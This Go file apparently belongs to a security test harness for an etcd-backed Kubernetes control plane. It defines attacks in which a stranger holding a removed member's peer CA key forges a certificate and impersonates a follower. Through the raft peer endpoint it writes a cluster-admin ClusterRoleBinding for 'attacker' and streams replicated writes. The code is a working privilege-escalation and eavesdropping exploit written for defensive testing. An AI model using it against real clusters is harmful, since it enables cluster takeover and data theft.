package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"errors"
	"io"
	"math/big"
	"net"
	"net/http"
	"path/filepath"
	"slices"
	"strconv"
	"sync"
	"time"

	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	"go.etcd.io/etcd/api/v3/version"
	"go.etcd.io/raft/v3/raftpb"
	"google.golang.org/protobuf/proto"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/gatehouse-dev/gatehouse/bench/internal/load"
	"github.com/gatehouse-dev/gatehouse/bench/internal/peer"
)

// memberRequests is the number of requests that one strike sends to the peer address.
const memberRequests = 500

func init() {
	port, portErr := peer.FreePort()
	address := net.JoinHostPort("127.0.0.1", strconv.Itoa(port))
	for name, send := range map[string]func(*member, context.Context) error{"removed-member-writes": (*member).write, "removed-member-reads": (*member).read} {
		register(attack{
			name:  name,
			about: "with the key of the members' authority, as on the disk of a removed member, a stranger sends requests to the peer address in the name of a follower; 2xx is a success of the attack",
			only:  []peer.Kind{peer.GatehouseEmbedded, peer.GatehouseOther},
			flags: []string{"--cluster", "--peer-address=" + address},
			prepare: func(ctx context.Context, t *target) error {
				if portErr != nil {
					return portErr
				}
				follower, err := t.Follower(ctx)
				if err == nil {
					t.atEnd(func() { _ = follower.Stop() })
				}
				return err
			},
			strike: func(ctx context.Context, t *target) error {
				m, err := newMember(t, address)
				if err != nil {
					return err
				}
				var all sync.WaitGroup
				for range 10 {
					all.Go(func() {
						for range memberRequests / 10 {
							t.answered(send(m, ctx))
						}
					})
				}
				all.Wait()
				_, err = t.client.RbacV1().ClusterRoleBindings().Get(ctx, "attack", metav1.GetOptions{})
				if err == nil {
					return errors.New("the attack wrote a ClusterRoleBinding: it succeeded")
				}
				return ctx.Err()
			},
		})
	}
}

// attackerRules is an object that makes the attacker an administrator.
const attackerRules = `{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"attack","uid":"attack"},` +
	`"subjects":[{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"attacker"}],` +
	`"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}`

// member is an attacker with the key of the CA.
type member struct {
	client *http.Client
	url    string
	// cluster and id are the IDs of the cluster and of the attacked member, and as is the ID of the follower.
	cluster string
	id, as  uint64
}

func newMember(t *target, address string) (*member, error) {
	pki := filepath.Join(t.Dir, "data", "pki")
	ca, err := tls.LoadX509KeyPair(filepath.Join(pki, "peer-ca.crt"), filepath.Join(pki, "peer-ca.key"))
	if err != nil {
		return nil, err
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	der, err := x509.CreateCertificate(rand.Reader, &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: "gatehouse-member"}, IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
	}, ca.Leaf, &key.PublicKey, ca.PrivateKey)
	if err != nil {
		return nil, err
	}
	roots := x509.NewCertPool()
	roots.AddCert(ca.Leaf)
	m := &member{url: "https://" + address, client: &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		DisableKeepAlives: true, TLSClientConfig: &tls.Config{RootCAs: roots, Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}},
	}}}
	// A member that accepts requests of strangers reveals its ID.
	res, err := m.client.Get(m.url + "/members")
	if err != nil {
		return nil, err
	}
	defer res.Body.Close()
	m.cluster = res.Header.Get("X-Etcd-Cluster-ID")
	if res.StatusCode != http.StatusOK {
		// The attacker knows the IDs from the disk. For requests that are rejected before the IDs are compared, any
		// IDs work.
		m.id, m.as = 1, 2
		return m, nil
	}
	var all []struct {
		ID       uint64
		PeerURLs []string
	}
	err = json.NewDecoder(io.LimitReader(res.Body, 1<<20)).Decode(&all)
	for _, one := range all {
		if slices.Contains(one.PeerURLs, m.url) {
			m.id = one.ID
		} else {
			m.as = one.ID
		}
	}
	return m, err
}

// do sends a request in the name of the follower.
func (m *member) do(ctx context.Context, method, path string, body []byte) error {
	req, err := http.NewRequestWithContext(ctx, method, m.url+path, bytes.NewReader(body))
	if err != nil {
		return err
	}
	for name, value := range map[string]string{
		"X-Server-From": strconv.FormatUint(m.as, 16), "X-Raft-To": strconv.FormatUint(m.id, 16), "X-Etcd-Cluster-ID": m.cluster,
		"X-Server-Version": version.Version, "X-Min-Cluster-Version": version.MinClusterVersion,
	} {
		req.Header.Set(name, value)
	}
	res, err := m.client.Do(req)
	if err != nil {
		return err
	}
	defer res.Body.Close()
	if res.StatusCode >= 300 {
		return &load.Refused{Code: res.StatusCode}
	}
	return nil
}

// write makes the attacker an administrator, without the API.
func (m *member) write(ctx context.Context) error {
	data, err := proto.Marshal(&pb.InternalRaftRequest{
		Header: &pb.RequestHeader{ID: uint64(time.Now().UnixNano())},
		Put:    &pb.PutRequest{Key: []byte("/registry/clusterrolebindings/attack"), Value: []byte(attackerRules)},
	})
	if err != nil {
		return err
	}
	kind := raftpb.MsgProp
	body, err := proto.Marshal(&raftpb.Message{Type: &kind, From: &m.as, To: &m.id, Entries: []*raftpb.Entry{{Data: data}}})
	if err != nil {
		return err
	}
	return m.do(ctx, http.MethodPost, "/raft", body)
}

// read opens a stream of the writes of the members.
func (m *member) read(ctx context.Context) error {
	return m.do(ctx, http.MethodGet, "/raft/stream/msgapp/"+strconv.FormatUint(m.as, 16), nil)
}
